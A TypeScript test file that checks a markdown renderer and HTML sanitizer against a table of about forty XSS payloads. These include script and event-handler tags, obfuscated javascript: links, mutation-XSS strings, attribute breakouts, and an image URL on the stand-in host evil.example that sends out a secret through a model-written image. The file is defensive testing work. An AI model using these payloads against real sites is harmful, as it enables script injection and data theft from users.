import './markdown-dom.ts';
import { describe, expect, it } from 'vitest';
import { renderMarkdownUncached } from '../src/markdown/render-markdown.ts';
import { highlight } from '../src/markdown/highlight-languages.ts';
import { sanitizeHtml } from '../src/markdown/sanitize.ts';

const labels = { copy: 'Copy', copyCode: 'Copy code', plainText: 'text' };

/** Each payload, and text that must still be readable as text once it is rendered. */
const PAYLOADS: Array<{ name: string; source: string; text: string }> = [
  { name: 'script element', source: '<script>alert(1)</script>', text: '<script>alert(1)</script>' },
  { name: 'img onerror', source: '<img src=x onerror=alert(1)>', text: '<img src=x onerror=alert(1)>' },
  { name: 'svg onload', source: '<svg onload=alert(1)><circle r="5"/></svg>', text: '<svg onload=alert(1)>' },
  { name: 'inline link to javascript:', source: '[click](javascript:alert(1))', text: '[click](javascript:alert(1))' },
  { name: 'mixed-case scheme', source: '[click](JaVaScRiPt:alert(1))', text: 'click' },
  { name: 'link in angle brackets', source: '[click](<javascript:alert(1)>)', text: 'click' },
  { name: 'reference link', source: '[click][evil]\n\n[evil]: javascript:alert(1)', text: '[click][evil]' },
  { name: 'reference link with title', source: '[evil]\n\n[evil]: javascript:alert(1) "t"', text: '[evil]' },
  { name: 'autolink', source: '<javascript:alert(1)>', text: '<javascript:alert(1)>' },
  { name: 'linkified text', source: 'see javascript:alert(1) now', text: 'javascript:alert(1)' },
  { name: 'hex entity in the scheme', source: '[a](jav&#x61;script:alert(1))', text: 'a' },
  { name: 'decimal entities and &colon;', source: '[a](&#106;avascript&colon;alert(1))', text: 'a' },
  { name: 'control character in the scheme', source: '[a](java%09script:alert(1))', text: 'a' },
  { name: 'data:text/html link', source: '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', text: 'a' },
  { name: 'vbscript link', source: '[a](vbscript:msgbox(1))', text: 'a' },
  { name: 'raw iframe', source: '<iframe src="javascript:alert(1)"></iframe>', text: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'raw anchor to javascript:', source: '<a href="javascript:alert(1)">x</a>', text: '<a href="javascript:alert(1)">x</a>' },
  { name: 'raw event handler', source: '<div onclick="alert(1)">click</div>', text: '<div onclick="alert(1)">click</div>' },
  { name: 'raw details ontoggle', source: '<details open ontoggle=alert(1)>', text: '<details open ontoggle=alert(1)>' },
  { name: 'image with javascript: source', source: '![x](javascript:alert(1))', text: 'x' },
  { name: 'image with data: source', source: '![pixel](data:image/png;base64,iVBORw0KGgo=)', text: 'pixel' },
  { name: 'image with an http source (exfiltration)', source: '![secret](https://evil.example/c?q=SECRET)', text: 'secret' },
  { name: 'style element', source: '<style>body{display:none}</style>', text: '<style>body{display:none}</style>' },
  { name: 'style attribute', source: '<p style="background:url(javascript:alert(1))">x</p>', text: 'style=' },
  { name: 'math element', source: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', text: '<math>' },
  { name: 'mXSS: math/mglyph/style', source: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', text: '<mglyph>' },
  { name: 'mXSS: noscript title', source: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', text: '<noscript>' },
  { name: 'mXSS: nested script', source: '<<script>alert(1)//<</script>', text: 'alert(1)' },
  { name: 'HTML in a code fence', source: '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```', text: '<script>alert(1)</script>' },
  { name: 'HTML in a fence without language', source: '```\n<iframe src=javascript:alert(1)>\n```', text: '<iframe src=javascript:alert(1)>' },
  { name: 'attribute breakout in the fence language', source: '```"onmouseover=alert(1)\ncode\n```', text: 'code' },
  { name: 'quoted breakout in the fence language', source: '```js" onclick="alert(1)" x="\ncode\n```', text: 'code' },
  { name: 'tilde fence with markup language', source: '~~~<img/src/onerror=alert(1)>\ncode\n~~~', text: 'code' },
  { name: 'inline code with HTML', source: '`<img src=x onerror=alert(1)>`', text: '<img src=x onerror=alert(1)>' },
  { name: 'title attribute breakout', source: '[x](https://a.example "t\\" onmouseover=\\"alert(1)")', text: 'x' },
  { name: 'fragment attribute breakout', source: '[x](#" onclick="alert(1))', text: 'x' },
  { name: 'linkified URL with markup', source: 'http://example.com/"><script>alert(1)</script>', text: '<script>alert(1)</script>' },
  { name: 'object and embed', source: '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">', text: '<object' },
  { name: 'form and input', source: '<form action="javascript:alert(1)"><input type="submit" formaction="javascript:alert(1)"></form>', text: '<form' },
  { name: 'protocol-relative link', source: '[x](//evil.example/a)', text: 'x' },
  { name: 'HTML in a table cell', source: '| a |\n|---|\n| <img src=x onerror=alert(1)> |', text: '<img src=x onerror=alert(1)>' },
  { name: 'base and meta', source: '<base href="javascript:alert(1)//"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">', text: '<base' },
];

const FORBIDDEN_ELEMENTS = 'script, iframe, object, embed, svg, math, img, style, link, meta, base, form, input, textarea, select, video, audio, source, frame, frameset, template, noscript';
const SAFE_URL = /^(?:https?:|mailto:|#)/i;
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcset', 'poster', 'background'];

function problemsIn(root: Element): string[] {
  const problems: string[] = [];
  for (const element of root.querySelectorAll(FORBIDDEN_ELEMENTS)) problems.push(`element <${element.tagName.toLowerCase()}>`);
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`${name} on <${element.tagName.toLowerCase()}>`);
      if (name === 'style') problems.push(`style on <${element.tagName.toLowerCase()}>`);
      if (URL_ATTRIBUTES.includes(name) && !SAFE_URL.test(attribute.value.trim())) problems.push(`${name}="${attribute.value}"`);
    }
  }
  return problems;
}

describe('renderMarkdown against XSS payloads', () => {
  it('has a table of at least 25 payloads', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(25);
  });

  for (const payload of PAYLOADS) {
    it(`neutralises ${payload.name}`, () => {
      const html = renderMarkdownUncached(payload.source, labels, { highlight });
      const container = document.createElement('div');
      container.innerHTML = html;
      expect(problemsIn(container)).toEqual([]);
      expect(container.textContent).toContain(payload.text);
      // Serialised and parsed again (what v-html does) it stays harmless: no mutation XSS.
      const reparsed = document.createElement('div');
      reparsed.innerHTML = container.innerHTML;
      expect(problemsIn(reparsed)).toEqual([]);
      for (const link of container.querySelectorAll('a[href]')) {
        expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
        expect(link.getAttribute('target')).toBe('_blank');
      }
    });
  }

  it('keeps a model-written image from loading: the image becomes a plain link with its alt text', () => {
    const container = document.createElement('div');
    container.innerHTML = renderMarkdownUncached('![secret](https://evil.example/c?q=SECRET)', labels);
    const link = container.querySelector('a.md-image-link');
    expect(container.querySelector('img')).toBeNull();
    expect(link?.getAttribute('href')).toBe('https://evil.example/c?q=SECRET');
    expect(link?.textContent).toBe('secret');
  });

  it('keeps the fence language to harmless characters', () => {
    const container = document.createElement('div');
    container.innerHTML = renderMarkdownUncached('```js" onclick="alert(1)\nx\n```', labels);
    const code = container.querySelector('pre code')!;
    expect(Array.from(code.attributes).map((attribute) => attribute.name)).toEqual(['class']);
    expect(container.querySelector('.md-code-language')?.textContent).toBe('js');
  });

  it('notices an unsafe element or attribute (the check itself works)', () => {
    const container = document.createElement('div');
    container.innerHTML = '<img src="x" onerror="x()"><a href="javascript:x()" style="color:red">y</a>';
    expect(problemsIn(container)).toEqual(['element <img>', 'src="x"', 'onerror on <img>', 'href="javascript:x()"', 'style on <a>']);
  });
});

describe('sanitizeHtml on its own (should the parser ever let HTML through)', () => {
  it('keeps only the allow-list: tags, attributes, classes and link targets', () => {
    const container = document.createElement('div');
    container.innerHTML = sanitizeHtml(
      '<p id="x" data-x="1" aria-hidden="true" class="md-code evil" tabindex="0">a</p><div tabindex="-1"></div>' +
        '<a href="javascript:alert(1)" rel="opener">b</a><a href="https://ok.example">c</a>' +
        '<button onclick="alert(1)" type="submit" class="other" data-md-copy="1">d</button>' +
        '<img src="https://evil.example/x.png"><svg><a href="https://ok.example">e</a></svg><ol start="2x"><li>f</li></ol>',
    );
    expect(problemsIn(container)).toEqual([]);
    const paragraph = container.querySelector('p')!;
    expect(Array.from(paragraph.attributes).map((attribute) => attribute.name)).toEqual([]);
    const [unsafe, safe] = Array.from(container.querySelectorAll('a'));
    expect(unsafe!.hasAttribute('href')).toBe(false);
    expect(unsafe!.hasAttribute('rel')).toBe(false);
    expect(safe!.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(safe!.getAttribute('target')).toBe('_blank');
    const button = container.querySelector('button')!;
    expect(Array.from(button.attributes).map((attribute) => `${attribute.name}=${attribute.value}`).sort()).toEqual(['class=md-copy', 'type=button']);
    expect(container.querySelector('ol')!.hasAttribute('start')).toBe(false);
    expect(container.querySelector('div')!.hasAttribute('tabindex')).toBe(false);
    // Content of a forbidden svg goes with it; that of other removed elements stays as text.
    expect(container.textContent).toBe('abcdf');
  });
});
